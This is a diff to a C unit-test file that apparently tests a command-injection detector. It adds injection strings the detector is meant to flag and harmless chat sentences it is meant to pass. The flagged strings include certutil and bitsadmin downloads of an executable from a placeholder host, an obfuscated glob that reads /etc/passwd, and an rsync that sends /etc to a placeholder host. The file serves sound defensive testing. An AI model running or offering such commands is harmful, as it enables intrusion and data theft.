@@ -152,7 +152,8 @@ WSG_TEST(cmdi_positives)
 		"test | powershell -c get-process", "x | net localgroup administrators",
 		"certutil -urlcache -split -f http://x/a.exe a.exe",
 		"bitsadmin /transfer job http://x/a.exe c:\\a.exe", "{,ifconfig,eth0}",
-		"{,cd,/etc,}", "{,$\"whoami\",}", "{,/?s?/?i?/c?t,/e?\?/p?\?s?\?,}", "\\ls", NULL,
+		"{,cd,/etc,}", "{,$\"whoami\",}", "{,/?s?/?i?/c?t,/e?\?/p?\?s?\?,}", "\\ls",
+		"chef report nodes", "time; aria2c http://x/y", ";rsync -av /etc x:", NULL,
 	};
 
 	for (int i = 0; pos[i]; i++)
@@ -186,7 +187,8 @@ WSG_TEST(cmdi_chat_negatives)
 		"cat /etc/hosts shows it", "i'd rather && go", "bash -c is how you run a string",
 		"nc -l 1234 to test the port", "net user on windows lists accounts",
 		"/usr/bin/python3 is the default", "mv file{,.bak}", "cp /etc/fstab{,.orig}",
-		"head /etc/passwd shows users", NULL,
+		"head /etc/passwd shows users", "time; money is tight", ";-) ok", "a hero; more than",
+		"i'm a chef", NULL,
 	};
 
 	for (int i = 0; neg[i]; i++)
